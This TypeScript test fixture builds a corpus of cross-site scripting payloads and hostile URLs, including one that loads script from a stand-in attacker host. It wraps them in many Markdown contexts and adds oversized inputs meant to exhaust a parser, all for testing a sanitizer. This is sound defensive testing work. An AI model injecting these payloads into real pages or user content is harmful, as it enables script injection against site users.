/**
 * Attacks on the Markdown pipeline, for the structural test here and for a browser that would run what slipped through.
 * Every script calls `alert`, so a test that replaces `alert` sees it.
 */

export type Attack = { context: string; source: string }

/** Markup that runs script when it reaches a page. */
const markup = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/u/a" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="/x" onclick="alert(1)" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=javascript:alert(1)//>',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<style>@import "javascript:alert(1)"; *{background:url(javascript:alert(1))}</style>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template shadowrootmode=open><script>alert(1)</script></template></select>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<title></title><img src=x onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p style="background:url(javascript:alert(1))" id=app name=forms class="staff wide">x</p>',
  '<portal src=javascript:alert(1)>',
  '<isindex type=image src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<img/src="x"/onerror=alert(1)//',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a data-own="x" class="mention staff" href="https://evil.example">@admin</a>',
  '</div></article></main><script>alert(1)</script>',
]

/** Addresses that run script, or lead where no link of ours may lead. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript%3Aalert(1)',
  'javascript://example.com/%0Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'https:javascript:alert(1)',
  'https://bank.example@evil.example/',
  '/\\evil.example/x',
  '//evil.example/x',
]

type Context = { name: string; wrap: (payload: string) => string; payloads: string[] }

const contexts: Context[] = [
  { name: 'plain paragraph', wrap: (html) => `before ${html} after`, payloads: markup },
  { name: 'html block', wrap: (html) => `<div>\n${html}\n</div>\n\nafter`, payloads: markup },
  { name: 'list item', wrap: (html) => `- one\n- [ ] ${html}\n- three`, payloads: markup },
  { name: 'quote', wrap: (html) => `> quoted\n> ${html}`, payloads: markup },
  { name: 'spoiler', wrap: (html) => `>! ${html}\n> more`, payloads: markup },
  { name: 'heading', wrap: (html) => `# ${html}`, payloads: markup },
  {
    name: 'table cell',
    wrap: (html) => `| a | b |\n|---|---|\n| ${html.replaceAll('|', '\\|')} | x |`,
    payloads: markup,
  },
  { name: 'fenced code', wrap: (html) => `\`\`\`html\n${html}\n\`\`\``, payloads: markup },
  { name: 'code span', wrap: (html) => `a \`${html}\` b`, payloads: markup },
  { name: 'fence info string', wrap: (html) => `\`\`\`js"${html}\ncode\n\`\`\``, payloads: markup },
  { name: 'link text', wrap: (html) => `[**${html}**](https://example.com)`, payloads: markup },
  {
    name: 'link title',
    wrap: (html) => `[x](https://example.com '"${html.replaceAll("'", '&#39;')}')`,
    payloads: markup,
  },
  {
    name: 'picture text',
    wrap: (html) => `![">${html}](https://example.com/a.png) ![">${html}](/u/abc)`,
    payloads: markup,
  },
  {
    name: 'entities',
    wrap: (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&#x3e;') + ` &amp;lt;${html.slice(1)}`,
    payloads: markup,
  },
  { name: 'mention and reference', wrap: (html) => `@ann"${html} #thr_01k9abcdef${html} @${html}`, payloads: markup },
  { name: 'link address', wrap: (url) => `[x](<${url}>) [y](${url})`, payloads: addresses },
  { name: 'reference definition', wrap: (url) => `[x] ![x]\n\n[x]: <${url}> "t"`, payloads: addresses },
  { name: 'autolink', wrap: (url) => `<${url}> ${url}`, payloads: addresses },
  { name: 'picture address', wrap: (url) => `![x](<${url}>) [![y](<${url}>)](<${url}>)`, payloads: addresses },
  {
    name: 'html attribute',
    wrap: (url) => `<a href="${url}" title='${url}'>x</a> <img src='${url}' srcset="${url} 2x" alt="${url}">`,
    payloads: addresses,
  },
  {
    name: 'html attribute in a block',
    wrap: (url) => `<details>\n<a href="${url}">\n<img src="${url}">\n</a></details>`,
    payloads: addresses,
  },
]

export const xssCorpus: Attack[] = contexts.flatMap(({ name, wrap, payloads }) =>
  payloads.map((payload) => ({ context: name, source: wrap(payload) })),
)

/** The raw payloads, for the door through which whole HTML comes in. */
export const hostileHtml: string[] = [
  ...markup,
  ...addresses.map((url) => `<a href="${url}">x</a><img src="${url}"><a href='/x'><a href="${url}">y</a></a>`),
]

export type Flood = { name: string; source: string }

const full = 32_000
const fill = (unit: string, characters: number) => unit.repeat(Math.max(1, Math.floor(characters / unit.length)))

const floodUnits = [
  '>',
  '> ',
  '- ',
  '* ',
  '1. ',
  '> - ',
  '- > ',
  '>! ',
  '+ 1) ',
  '\t- ',
  '*',
  '**',
  '_',
  '__',
  '***a ',
  '*a_ ',
  '**a *b ',
  '_a*',
  '~~',
  '~',
  '~~a ',
  'a**b',
  '*a ',
  ' a*',
  '[',
  ']',
  '![',
  '[a](',
  '[](',
  '[a][',
  '](',
  '[a]: ',
  '[![',
  '\\[',
  '[a]',
  '[^1]',
  '<',
  '<a ',
  '<a href="',
  '<!--',
  '<?',
  '<![CDATA[',
  '<b>',
  '</b>',
  '<a><b>',
  '`',
  '``',
  '`a',
  '` `` ',
  '```\n',
  '~~~\n',
  '```a\n',
  '    a\n',
  '\\',
  '\\\n',
  '&',
  '&amp;',
  '&#',
  '&#x41;',
  '&lt;b&gt;',
  '|',
  '|-',
  'a|b\n',
  '|a|\n',
  '|---',
  '| a | b |\n|---|---|\n',
  '|\n',
  '---\n',
  '===\n',
  'a\n===\n',
  '#',
  '# a\n',
  '###### ',
  'http://a',
  'https://a.b/?',
  'www.',
  'www.a.',
  'a@b.',
  'a@',
  'a.b@c.d ',
  '<http://a>',
  '<a@b.c>',
  'http://a.b/(',
  'http://a.b/&amp;',
  'www.a.b) ',
  'ftp://',
  '@a',
  '@ann ',
  '@가나',
  '#thr_',
  '#thr_01k9ab ',
  '가',
  '\u1100',
  '\u0301',
  '👩‍👩‍👧',
  '\u200b',
  '\0',
  '\ud800',
  '\r',
  ' ',
  '\t',
  '\n',
  ' \n',
  '  \n',
  'a\n\n',
  '- a\n',
  '-\n',
  '- [ ] ',
  '- [x] a\n',
  '1. a\n',
  '> a\n',
  '>! a\n',
  '> a\n\n',
  '<div>\n',
  '<div>\n\n',
  '</div>\n',
  '<pre>\n',
  '<details>\n\n',
  '<table><tr><td>',
  '<img src=x>',
  '<ol start=1><li>',
]

/**
 * Each unit three ways: in one line, in one paragraph of many lines, and as many paragraphs, at the full size of a
 * post.
 */
export const floods: Flood[] = [
  ...floodUnits.map((unit) => ({ name: `full post of ${JSON.stringify(unit)}`, source: fill(unit, full) })),
  ...floodUnits.map((unit) => ({
    name: `lines of ${JSON.stringify(unit)}`,
    source: fill(`${fill(unit, 60)}\n`, full),
  })),
  ...floodUnits.map((unit) => ({
    name: `long paragraphs of ${JSON.stringify(unit)}`,
    source: fill(`${fill(unit, 9_000)}\n\n`, full),
  })),
  ...floodUnits.map((unit) => ({
    name: `just under the limit of marks: ${JSON.stringify(unit)}`,
    source: fill(`${fill(unit, 900)}x${fill('word ', 500)}\n\n`, full),
  })),
  { name: 'list as deep as indentation allows', source: nested((depth) => `${'  '.repeat(depth)}- a\n`) },
  {
    name: 'list twenty deep, over and over',
    source: fill(Array.from({ length: 19 }, (_, depth) => `${'  '.repeat(depth)}- a\n`).join(''), full),
  },
  { name: 'quotes nineteen deep, every line', source: fill(`${'> '.repeat(19)}a\n`, full) },
  { name: 'quotes nineteen deep, lazy lines', source: fill(`${'> '.repeat(19)}a\na\na\n`, full) },
  { name: 'quote and list by turns', source: fill(`${'> - '.repeat(9)}a\n`, full) },
  {
    name: 'table of a thousand columns',
    source: `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|\n'.repeat(5_000)}`,
  },
  {
    name: 'table of thirty columns, short rows',
    source: `${'|a'.repeat(30)}|\n${'|-'.repeat(30)}|\n${'|\n'.repeat(10_000)}`,
  },
  { name: 'many small tables', source: fill('|a|b|c|\n|-|-|-|\n|1|2|3|\n\n', full) },
  {
    name: 'one long definition used often',
    source: `[a]: /${'x'.repeat(9_000)}\n\n${fill(`${fill('[a] ', 1_200)}\n\n`, 22_000)}`,
  },
  { name: 'many definitions, many uses', source: definitions() },
  {
    name: 'definition with a long title',
    source: `[a]: /x "${'y'.repeat(9_000)}"\n\n${fill(`${fill('[a] ', 1_200)}\n\n`, 22_000)}`,
  },
  { name: 'deep html', source: `${'<b>'.repeat(5_000)}x` },
  { name: 'deep html blocks', source: `${'<div>\n'.repeat(4_000)}x` },
  { name: 'links in links', source: fill('<a href=/x>', 9_900) },
  { name: 'attributes without end', source: `<a ${fill('b="c" ', 9_000)}>` },
  ...['js', 'html', 'json', 'bash', 'haskell', 'cpp', 'css', 'markdown', 'perl', 'swift', 'sql', 'yaml', 'php'].flatMap(
    (language) =>
      ['(', '{[', '"', '/*', '<a b="', '`${', 'a.b(', '- '].map((unit) => ({
        name: `${language} code of ${JSON.stringify(unit)}`,
        source: `\`\`\`${language}\n${fill(`${fill(unit, 9_000)}\n`, 31_000)}\`\`\``,
      })),
  ),
]

function nested(line: (depth: number) => string): string {
  let text = ''
  for (let depth = 0; text.length + line(depth).length < full; depth += 1) text += line(depth)
  return text
}

function definitions(): string {
  const names = Array.from({ length: 1_400 }, (_, index) => `n${index}`)
  const uses = names.map((name, index) => `[${name}]${index % 300 === 299 ? '\n\n' : ' '}`).join('')
  return `${names.map((name) => `[${name}]: /${index(name)}`).join('\n')}\n\n${uses}`.slice(0, full)

  function index(name: string): string {
    return name.slice(1)
  }
}
